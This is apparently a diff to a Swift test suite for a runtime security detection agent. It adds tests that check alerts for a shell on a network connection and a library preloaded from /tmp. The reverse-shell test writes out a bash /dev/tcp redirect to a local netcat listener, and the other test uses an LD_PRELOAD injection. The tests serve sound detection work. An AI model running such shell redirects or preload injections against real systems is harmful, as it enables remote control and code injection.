@@ -1,3 +1,4 @@
+import Glibc
 import SystemPackage
 import Testing
 
@@ -70,6 +71,42 @@ extension LiveHost {
       let alert = try agent.alert(of: "Container id without a voucher")
       #expect(alert.outputText("proc.cgroup.claims")?.hasPrefix(id.prefix(12)) == true)
       #expect(alert.outputText("proc.cmdline") == "sleep 0.3")
+    }
+
+    @Test("a shell whose input and output are one network connection", .needsContainers)
+    func reverseShell() throws {
+      let agent = try Agent()
+      let port = 20000 + Int(getpid()) % 10000
+      let listener = try Program(
+        "/bin/busybox", ["nc", "-l", "-p", "\(port)"], input: nil)
+      let shell = try Program(
+        "/bin/bash",
+        [
+          "-c",
+          """
+          until grep -q ":$(printf %04X "$0") 0*:0000 0A" /proc/net/tcp /proc/net/tcp6; do sleep 0.05; done
+          exec 3<>/dev/tcp/127.0.0.1/"$0"
+          exec sh -c 'sleep 0.3; :' <&3 >&3
+          """, "\(port)",
+        ]
+      ).finish()
+      #expect(shell.status == 0)
+      let alert = try agent.alert(of: "Shell on a network connection")
+      #expect(alert.outputText("proc.cmdline") == "sh -c sleep 0.3; :")
+      #expect(alert.outputText("proc.stdin.name")?.hasPrefix("socket:[") == true)
+      listener.signal(SIGTERM)
+    }
+
+    @Test("a library that a user puts before all others, from a directory that everybody may write")
+    func preload() throws {
+      let agent = try Agent(rules: ShippedRules.withExtra)
+      _ = try Program(
+        "/usr/bin/env", ["LD_PRELOAD=/tmp/not-there.so", "SECRET=hidden", "/bin/sleep", "0.3"]
+      ).finish()
+      let alert = try agent.alert(of: "Library injected from a scratch directory")
+      #expect(alert.outputText("proc.env[LD_PRELOAD]") == "/tmp/not-there.so")
+      #expect(alert.outputText("proc.cmdline") == "sleep 0.3")
+      #expect(try agent.finish().output.contains("hidden") == false)
     }
 
     @Test("a shell below a program that answers the network")
